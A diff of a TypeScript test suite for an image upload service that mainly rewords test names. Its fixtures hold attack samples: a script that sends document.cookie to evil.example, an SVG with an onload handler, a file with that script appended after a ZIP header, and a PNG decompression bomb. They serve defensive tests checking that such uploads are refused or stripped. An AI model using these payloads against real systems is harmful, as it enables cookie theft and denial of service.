@@ -36,14 +36,14 @@ async function taken(bytes: Uint8Array) {
   return picture
 }
 
-/** The colour of a pixel, as red, green and blue. */
+/** The colour of a pixel as red, green and blue. */
 async function colourAt(bytes: Buffer, left: number, top: number): Promise<number[]> {
   const pixel = await sharp(bytes).extract({ left, top, width: 1, height: 1 }).raw().toBuffer()
   return [...pixel.subarray(0, 3)]
 }
 
 describe('a picture', () => {
-  test('is drawn anew in three sizes, without what its file knew of its maker', async () => {
+  test('is encoded again in three sizes, without metadata of its author', async () => {
     expect(photoSecrets.every((secret) => photo.includes(secret))).toBe(true)
     const picture = await taken(photo)
     expect(picture).toMatchObject({ width: 960, height: 720 })
@@ -66,15 +66,15 @@ describe('a picture', () => {
     }
   })
 
-  test('is asked for once: afterwards its name says that nothing has changed', async () => {
+  test('is requested once: afterwards its ETag answers 304', async () => {
     const { key } = await taken(photo)
     const first = await get(pictureAddress(key, 480))
     const again = await get(pictureAddress(key, 480), { 'if-none-match': String(first.headers.etag) })
     expect([again.statusCode, again.rawPayload.length]).toEqual([304, 0])
   })
 
-  test('stands upright, however the camera was held', async () => {
-    // Turned by a quarter: what is left in the file is at the top of the picture.
+  test('is upright for any camera orientation', async () => {
+    // Rotated by a quarter: the left side of the file is the top of the picture.
     const picture = await taken(await samplePhoto(800, 600, { orientation: 6 }))
     expect([picture.width, picture.height]).toEqual([600, 800])
     const { rawPayload } = await get(pictureAddress(picture.key, 960))
@@ -83,7 +83,7 @@ describe('a picture', () => {
   })
 
   test.each(['png', 'webp', 'avif', 'gif'] as const)(
-    'may come as %s, whatever its name and type say',
+    'is accepted as %s with any file name and declared type',
     async (format) => {
       const { status, picture } = await send(await samplePhoto(300, 200, { format }), {
         name: 'dish.pdf',
@@ -93,7 +93,7 @@ describe('a picture', () => {
     },
   )
 
-  test('that is small is not enlarged; one that is tall keeps within bounds', async () => {
+  test('is not enlarged if small, and limited in height if tall', async () => {
     const small = await taken(await samplePhoto(200, 150))
     const { width } = await sharp((await get(pictureAddress(small.key, 480))).rawPayload).metadata()
     expect([small.width, width]).toEqual([200, 200])
@@ -102,7 +102,7 @@ describe('a picture', () => {
     expect([tall.width, tall.height]).toEqual([120, 2_400])
   })
 
-  test('of no known colours is brought to those that every screen has', async () => {
+  test('of another colour space is converted to sRGB', async () => {
     const cmyk = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#d02020' } })
       .toColourspace('cmyk')
       .jpeg()
@@ -112,7 +112,7 @@ describe('a picture', () => {
     expect([shown.space, shown.channels]).toEqual(['srgb', 3])
   })
 
-  test('uploaded twice is one; a job makes it smaller still, and each upload is in the audit', async () => {
+  test('uploaded twice is stored once; a job creates AVIF, and the audit has each upload', async () => {
     const bytes = await samplePhoto(500, 400)
     const before = await countFiles()
     const [one, two] = [await taken(bytes), await taken(bytes)]
@@ -124,7 +124,7 @@ describe('a picture', () => {
         hash,
       ]),
     ).toHaveLength(2)
-    // Not made yet: its WebP stands in, and no cache keeps that.
+    // Not created yet: the answer is its WebP, which caches must revalidate.
     const early = await get(pictureAddress(one.key, 480, 'avif'))
     expect([early.statusCode, early.headers['content-type'], early.headers['cache-control']]).toEqual([
       200,
@@ -134,7 +134,7 @@ describe('a picture', () => {
   })
 })
 
-/** A true PNG of 30,000 by 30,000 black points: 110 MB in a hundred kilobytes. */
+/** A valid PNG of 30,000 by 30,000 black pixels: 110 MB in a hundred kilobytes. */
 function bomb(side: number): Buffer {
   const chunk = (type: string, content: Buffer) => {
     const body = Buffer.concat([Buffer.from(type), content])
@@ -159,7 +159,7 @@ function bomb(side: number): Buffer {
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
 const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)">${script}</svg>`
 
-describe('what is no picture for us is refused in words that say what to do, and nothing of it stays', () => {
+describe('an unusable file is refused with advice, and nothing of it is stored', () => {
   test.each([
     ['a PDF named .jpg', 'picture.pdf', 415, () => Buffer.from(`%PDF-1.7\n${'x'.repeat(5_000)}`)],
     ['an SVG with a script', 'picture.svg', 415, () => Buffer.from(svg)],
@@ -207,18 +207,18 @@ describe('what is no picture for us is refused in words that say what to do, and
     expect(await countFiles()).toBe(before)
   })
 
-  test('a picture with another file behind it keeps the picture only', async () => {
+  test('a picture with another file appended keeps the picture only', async () => {
     const both = Buffer.concat([photo, Buffer.from(`PK\x03\x04${script}`)])
     const { key } = await taken(both)
     for (const width of [160, 480, 960] as const)
       expect((await get(pictureAddress(key, width))).rawPayload.includes('script')).toBe(false)
   })
 
-  test('another part than the file is none', async () => {
+  test('a part other than the file counts as no file', async () => {
     expect(await send(photo, { field: 'attachment' })).toMatchObject({ code: 'picture.missing', status: 400 })
   })
 
-  test('a body that is not multipart, or is so in name only, is none', async () => {
+  test('a body that is not valid multipart counts as no file', async () => {
     for (const type of [
       'image/jpeg',
       'application/json',
@@ -239,7 +239,7 @@ describe('what is no picture for us is refused in words that say what to do, and
   })
 })
 
-/** Sends so much of a body and then waits: whether the answer needs the rest. */
+/** Send part of a body, then wait: whether the answer needs the rest. */
 async function sendSlowly(
   headers: Record<string, string>,
   megabytes: number,
@@ -278,22 +278,22 @@ async function sendSlowly(
   })
 }
 
-describe('60 MB', () => {
-  test('that are announced are refused before they are sent', async () => {
+describe('an upload of 60 MB', () => {
+  test('with a declared length is refused before it is sent', async () => {
     expect(await sendSlowly({ 'content-length': String(60 * 1_048_576) }, 0)).toEqual({
       status: 413,
       code: 'picture.tooLarge',
     })
   })
 
-  test('that are not announced are refused as soon as they are too many', async () => {
+  test('without a declared length is refused once it exceeds the limit', async () => {
     expect(await sendSlowly({ 'transfer-encoding': 'chunked' }, 21)).toEqual({
       status: 413,
       code: 'picture.tooLarge',
     })
   })
 
-  test('of a stranger are refused without a look at them', async () => {
+  test('by an unknown caller is refused unread', async () => {
     expect(await sendSlowly({ 'transfer-encoding': 'chunked' }, 0, 'x'.repeat(43))).toEqual({
       status: 401,
       code: 'token.missing',
